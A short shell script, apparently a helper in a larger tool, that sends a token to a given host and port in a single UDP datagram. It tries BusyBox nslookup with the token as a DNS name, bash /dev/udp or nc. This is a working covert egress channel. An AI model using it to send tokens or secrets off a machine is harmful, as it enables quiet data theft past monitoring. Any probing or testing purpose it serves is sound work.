# send_token.sh TOKEN HOST PORT: one UDP datagram that carries the token, by what this system has: its DNS client (the
# question goes to our port and is never answered), bash, or nc. Exit 40 when it has none of them.
# shellcheck shell=sh
if have nslookup; then
  case "$(nslookup --help 2>&1)" in
    *BusyBox*)
      nslookup -type=a "-port=$3" -retry=1 -timeout=1 "$1.invalid" "$2" </dev/null >/dev/null 2>&1
      exit 0
      ;;
  esac
fi
if have bash; then
  bash -c 'printf "%s" "$1" >"/dev/udp/$2/$3"' bash "$1" "$2" "$3" && exit 0
fi
if have nc; then
  printf '%s' "$1" | nc -u -w 1 "$2" "$3" >/dev/null 2>&1
  exit 0
fi
if have nslookup; then
  nslookup -type=a "-port=$3" -retry=1 -timeout=1 "$1.invalid" "$2" </dev/null >/dev/null 2>&1
  exit 0
fi
exit 40
